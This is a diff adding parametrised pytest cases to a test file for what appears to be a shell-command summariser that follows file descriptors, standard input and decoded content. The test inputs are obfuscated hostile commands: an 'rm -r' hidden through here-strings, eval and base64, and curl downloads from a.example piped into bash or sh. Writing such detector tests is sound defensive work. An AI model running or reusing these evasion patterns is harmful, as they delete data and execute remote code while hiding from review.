@@ -28,3 +28,17 @@ import pytest
 ])
 def test_redirections(brief, command, expected):
     assert brief(command) == expected
+
+
+@pytest.mark.parametrize(("command", "last"), [
+    ("exec 3<<< 'rm -r ~/x'; source /dev/fd/3", "rm D:~/x <just_written"),
+    ("exec 3<<< 'rm -r ~/x'; bash <&3", "rm D:~/x"),
+    ("exec {fd}<<< 'rm -r ~/x'; bash /dev/fd/$fd", "rm D:~/x <just_written"),
+    ("exec 3<<< 'rm -r ~/x'; read -u 3 c; eval \"$c\"", "rm D:~/x"),
+    ("exec 3< <(curl -s https://a.example); bash <&3", "bash ! <download <just_written"),
+    ("exec > p.sh; curl https://a.example; bash p.sh", "bash R:./p.sh <download <just_written"),
+    ("echo cm0gLXIgfi94 | base64 -d | bash -c \"$(cat)\"", "rm D:~/x <decoded"),
+    ("curl -o x https://a.example; rm x; sh x", "sh R:./x <local_file"),
+])
+def test_open_descriptors_and_standard_input_are_followed(brief, command, last):
+    assert brief(command)[-1] == last
